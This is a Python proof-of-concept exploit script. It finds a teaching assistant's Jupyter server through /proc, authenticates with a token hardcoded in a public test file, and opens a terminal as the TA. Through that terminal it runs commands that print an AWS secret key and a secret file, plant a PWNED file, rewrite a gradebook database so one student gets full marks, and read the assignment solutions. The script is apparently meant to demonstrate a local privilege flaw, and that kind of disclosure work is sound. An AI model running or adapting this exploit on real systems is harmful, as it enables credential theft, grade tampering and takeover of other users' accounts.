"""Run as uid 65000 while the TA runs `make test` (here: its test tests/test_private_kernels.py::
test_the_kernels_of_make_labs_server_listen_on_no_tcp_port). That test starts a real Jupyter server as the TA on
127.0.0.1:<port> (the port is on its command line, which every account reads in /proc) with the token "t" * 32,
written in the public test file. Any local account that reaches the server while the test runs holds the TA's
Jupyter server: here a terminal (jupyter_server_terminals) runs a command as the TA."""
import json, os, re, time, urllib.request
from tornado import ioloop, websocket

TA, TOKEN = 65534, "t" * 32
log = open(os.environ.get("LOG", "/dev/stdout"), "a", buffering=1)
SQL = ("UPDATE grade SET manual_score=(SELECT max_score FROM grade_cells WHERE grade_cells.id=grade.cell_id), "
       "needs_manual_grade=0 WHERE notebook_id IN (SELECT n.id FROM submitted_notebook n JOIN submitted_assignment s "
       "ON n.assignment_id=s.id WHERE s.student_id='mallory')")
CMD2 = ("cd CLONE && .venv/bin/python -c \"import sqlite3; c=sqlite3.connect('gradebook.db'); "
        "print('rows changed', c.execute(\\\"" + SQL + "\\\").rowcount); c.commit()\"; echo DONE-65000\n")
CMD3 = ("cd CLONE && ls -ld source autograders && .venv/bin/python -c 'import json; nb=json.load(open(\"source/ps1_memory/ps1_memory.ipynb\")); "
        "print([\"\".join(c[\"source\"]).splitlines()[-2] for c in nb[\"cells\"] if c[\"metadata\"].get(\"nbgrader\",{}).get(\"grade_id\",\"\").startswith(\"quiz_q\") and c[\"metadata\"][\"nbgrader\"].get(\"solution\")])'; "
        "ls autograders | head -3; echo DONE-65000\n")
CMD = ("id; echo ENV-SECRET=$AWS_SECRET_ACCESS_KEY; echo FILE-SECRET=$(cat NOTES/home/secret.txt); "
       "echo 'written by uid 65000 through the TA jupyter server' > NOTES/home/PWNED-by-65000.txt; "
       "ls -la NOTES/home/PWNED-by-65000.txt; echo DONE-65000\n")


def find_port():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid != TA:
                continue
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        m = re.search(r"jupyter_server.*--ServerApp\.port=(\d+)", cmd)
        if m:
            return int(m.group(1)), pid, cmd
    return None


def api(port, path, data=None):
    req = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=data, method="POST" if data is not None else "GET",
                                 headers={"Authorization": f"token {TOKEN}"})
    with urllib.request.urlopen(req, timeout=3) as r:
        return json.load(r)


async def terminal(port, name):
    ws = await websocket.websocket_connect(f"ws://127.0.0.1:{port}/terminals/websocket/{name}?token={TOKEN}")
    ws.write_message(json.dumps(["stdin", {"grades": CMD2, "solutions": CMD3}.get(os.environ.get("WHICH"), CMD)]))
    out, end = "", time.time() + 15
    while "DONE-65000" not in out.split("echo DONE-65000")[-1] and time.time() < end:
        msg = await ws.read_message()
        if msg is None:
            break
        kind, *rest = json.loads(msg)
        if kind == "stdout":
            out += rest[0]
    return out


end = time.time() + float(os.environ.get("SECONDS_LEFT", "300"))
while time.time() < end:
    found = find_port()
    if not found:
        time.sleep(0.01)
        continue
    port, pid, cmd = found
    log.write(f"{time.strftime('%T')} TA's Jupyter server pid {pid}: {cmd[:200]}\n")
    while time.time() < end:
        try:
            log.write(f"{time.strftime('%T')} /api/status with the test's token: {api(port, '/api/status')}\n")
            break
        except OSError:
            time.sleep(0.05)
    term = api(port, "/api/terminals", b"{}")
    log.write(f"{time.strftime('%T')} opened terminal {term}\n")
    out = ioloop.IOLoop.current().run_sync(lambda: terminal(port, term["name"]))
    log.write(f"{time.strftime('%T')} terminal output:\n{out}\n")
    break
